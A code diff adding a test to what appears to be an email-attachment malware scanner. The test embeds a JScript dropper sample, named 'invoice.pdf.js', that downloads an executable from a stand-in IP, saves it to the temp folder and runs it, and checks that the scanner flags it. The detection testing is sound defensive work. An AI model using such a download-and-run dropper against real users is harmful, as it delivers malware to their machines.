@@ -36,3 +36,17 @@ def test_obfuscated_script_blocks_in_the_store_become_alerts(settings: Settings)
         assert to_json(a)["alert_ref"].startswith("Powershell-Invoke-Obfuscation")
     assert any("raw.githubusercontent.com" in (a.get("related.hosts") or []) for a in malicious)
     assert alerts_to_table(alerts).num_rows == len(alerts)
+
+
+def test_mail_attachment_goes_through_the_same_analysers() -> None:
+    from phagocyte.analysers.events import scan_attachment
+
+    js = (b"var sh = new ActiveXObject('WScript.Shell'); var x = new ActiveXObject('MSXML2.XMLHTTP');"
+          b"x.open('GET', 'http://198.51.100.4/invoice.exe', false); x.send();"
+          b"var s = new ActiveXObject('ADODB.Stream'); s.SaveToFile('%TEMP%\\\\inv.exe'); sh.Run('%TEMP%\\\\inv.exe');")
+    message = {"event.id": "mail-1"}
+    v, alert = scan_attachment("invoice.pdf.js", js, Scanner(), message)
+    assert v.kind == "javascript" and v.label == "malicious"
+    assert alert is not None and alert["event.reference"] == "mail-1" and "198.51.100.4" in alert["related.ip"]
+    clean, none = scan_attachment("notes.txt", b"see you on monday", Scanner(), message)
+    assert clean.label == "clean" and none is None
